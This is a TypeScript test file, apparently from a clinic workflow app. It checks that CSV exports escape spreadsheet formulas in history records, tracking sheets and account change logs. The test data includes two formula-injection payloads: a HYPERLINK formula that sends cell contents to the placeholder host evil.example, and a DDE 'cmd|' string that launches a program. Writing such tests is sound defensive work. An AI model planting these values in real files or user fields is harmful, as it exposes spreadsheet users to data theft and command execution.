import { formulaStarts } from '@portalflow/engine/text';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type AuthHeaders, exampleStart, makeApp, type TestApp } from './support/app.ts';

/**
 * Every CSV the server writes is safe to open in a spreadsheet: no cell, and no piece of a cell that a
 * spreadsheet splits off at another separator (`;` where that is the list separator), starts like a
 * formula. The text still reads the same, but for a `'` before each formula character.
 */

const TRIAGE = 'portal-message-triage';
const EVIL = 'Dr Smith;=HYPERLINK("http://evil.example/?"&A1,"open")';
const EVIL_TOO = "ok,-2+3+cmd|' /C calc'!A0\n@SUM(1)";

let t: TestApp;
let lead: AuthHeaders;
let auditor: AuthHeaders;
let instanceId: string;

beforeAll(async () => {
  t = await makeApp();
  [lead, auditor] = await Promise.all([t.login('lead'), t.login('auditor')]);
  const started = await t.call('POST', '/api/instances', {
    as: lead,
    body: { definitionId: TRIAGE, data: { ...exampleStart(TRIAGE), subject: 'Question about my results' } },
  });
  expect(started.status, started.text).toBe(201);
  instanceId = started.body.instance.id;
  const token = started.body.instance.active[0].token as string;
  // Histories recorded before assignees were checked may hold any text: the export must still be safe.
  for (const assignee of [EVIL, EVIL_TOO]) {
    await t.instances.act({ user: null, role: null }, instanceId, {
      type: 'system',
      event: { type: 'reassign', token, assignee, actor: t.user('lead').id },
    });
  }
  // A person's display name is free text and lands in the tracking sheet.
  const mallory = await t.addUser('mallory', ['medical-assistant']);
  await t.store.updateUser(mallory.id, { displayName: EVIL });
  const entry = await t.call('POST', '/api/tracking/entries', {
    as: await t.login('mallory'),
    body: {
      kind: 'shift',
      day: '2026-03-02',
      fields: { shift: 'full-day', site: 'Main clinic', hours: 7.5 },
    },
  });
  expect(entry.status, entry.text).toBe(201);
});
afterAll(() => t?.close());

describe('CSV exports hold no formula anywhere', () => {
  it('instance history export', async () => {
    const r = await t.call('GET', `/api/instances/${instanceId}/export?format=csv`, { as: auditor });
    expect(r.status).toBe(200);
    expect(r.text).toContain('HYPERLINK');
    expect(r.text).toContain('cmd|');
    expect(formulaStarts(r.text)).toBe(false);
  });

  it('tracking sheet, every table, per person and per role', async () => {
    let sawName = false;
    for (const view of ['person', 'role']) {
      for (const table of ['totals', 'tasks', 'enrollment', 'declines', 'manual']) {
        const r = await t.call(
          'GET',
          `/api/tracking/sheet?from=2026-03-01&to=2026-03-31&view=${view}&format=csv&table=${table}`,
          { as: lead },
        );
        expect(r.status, r.text).toBe(200);
        if (r.text.includes('HYPERLINK')) sawName = true;
        expect(formulaStarts(r.text), `${view} ${table}: ${r.text}`).toBe(false);
      }
    }
    expect(sawName).toBe(true);
  });

  it('account change trail (a name from an admin, a staff list or single sign-on)', async () => {
    const admin = await t.login('admin');
    const renamed = await t.call('PATCH', `/api/users/${t.user('mallory').id}`, {
      as: admin,
      body: { displayName: `${EVIL} (billing)` },
    });
    expect(renamed.status, renamed.text).toBe(200);
    const r = await t.call('GET', '/api/account-changes?format=csv', { as: auditor });
    expect(r.status, r.text).toBe(200);
    expect(r.text).toContain('HYPERLINK');
    expect(formulaStarts(r.text), r.text).toBe(false);
  });
});
